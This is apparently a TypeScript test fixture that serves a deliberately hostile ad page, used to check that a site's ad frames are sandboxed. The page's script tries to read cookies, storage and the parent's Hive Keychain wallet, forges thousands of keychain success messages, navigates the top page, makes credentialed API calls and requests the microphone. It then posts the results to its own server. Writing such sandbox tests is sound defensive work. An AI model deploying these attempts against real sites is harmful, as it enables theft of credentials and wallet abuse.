import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

export interface HostileAd {
  url: string
  /** The outcome of each attempt of its page: 'refused', or what it obtained. */
  report(): Promise<Record<string, string>>
  /** The distinct referrers of the requests for its page. */
  referrers(): string[]
  /** The HTML of its page, to be served from elsewhere. */
  page(): string
  /** Sets the site whose API the page tries to call. */
  setTarget(siteUrl: string): void
  close(): Promise<void>
}

/** Runs in the frame. An attempt that returns a value has succeeded. */
function attack(): void {
  const outcomes: Record<string, string> = {}
  const attempt = (name: string, run: () => unknown) => {
    try {
      const result = run()
      outcomes[name] = result === undefined || result === null || result === false ? 'refused' : `got ${String(result)}`
    } catch {
      outcomes[name] = 'refused'
    }
  }
  attempt('top page address', () => window.top?.location.href)
  attempt('top document', () => window.top?.document)
  attempt('parent storage', () => window.parent.localStorage)
  attempt('wallet of the page', () => (window.parent as unknown as { hive_keychain: unknown }).hive_keychain)
  attempt('own storage', () => localStorage)
  attempt('cookies', () => document.cookie)
  attempt('frame element', () => window.frameElement)
  attempt('origin', () => (self.origin === 'null' ? undefined : self.origin))
  attempt('confirm', () => confirm('?'))
  attempt('prompt', () => prompt('?'))
  attempt('referrer', () => document.referrer || undefined)
  attempt('ancestors', () => {
    window.top!.location.href = `${location.href}?taken-over`
    return undefined
  })
  attempt('navigate by link', () => {
    const link = Object.assign(document.createElement('a'), { href: location.href, target: '_top' })
    document.body.append(link)
    link.click()
    return undefined
  })
  attempt('navigate by form', () => {
    const form = Object.assign(document.createElement('form'), { action: location.href, target: '_top' })
    document.body.append(form)
    form.submit()
    return undefined
  })
  for (let message = 0; message < 10_000; message++) {
    window.parent.postMessage({ type: 'hive_keychain_response', response: { success: true, request_id: message } }, '*')
  }
  const site = document.documentElement.dataset.site
  if (!site) throw new Error('no site was set to attack')
  const requests = ['/api/streams', '/api/follows/following'].map(async (path) => {
    outcomes[`response of ${path}`] = await fetch(site + path, { credentials: 'include' }).then(
      async (response) => `got ${await response.text()}`,
      () => 'refused',
    )
  })
  const devices = navigator.mediaDevices?.getUserMedia({ audio: true }).then(
    () => 'got the microphone',
    () => 'refused',
  )
  Promise.all([...requests, devices]).then(([, , microphone]) => {
    outcomes.microphone = String(microphone ?? 'refused')
    // Navigation is asynchronous: after a second it has happened, or it will not.
    setTimeout(() => {
      void fetch('/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcomes) })
    }, 1000)
  })
}

/** Starts an advertiser's server whose page tries every attack. */
export async function startHostileAd(): Promise<HostileAd> {
  const referrers = new Set<string>()
  let target = ''
  let resolveReport: (report: Record<string, string>) => void = () => {}
  const reported = new Promise<Record<string, string>>((resolve) => {
    resolveReport = resolve
  })
  const server = createServer((request, response) => {
    if (request.method === 'POST') {
      let body = ''
      request.on('data', (chunk) => {
        body += chunk
      })
      request.on('end', () => {
        resolveReport(JSON.parse(body))
        response.end()
      })
      return
    }
    referrers.add(request.headers.referer ?? '')
    response.setHeader('content-type', 'text/html; charset=utf-8')
    response.end(page())
  })
  const page = () => `<!doctype html><html data-site="${target}"><body><script>(${attack})()</script></body></html>`
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    report: () => reported,
    page,
    referrers: () => [...referrers],
    setTarget(siteUrl) {
      target = siteUrl
    },
    async close() {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}
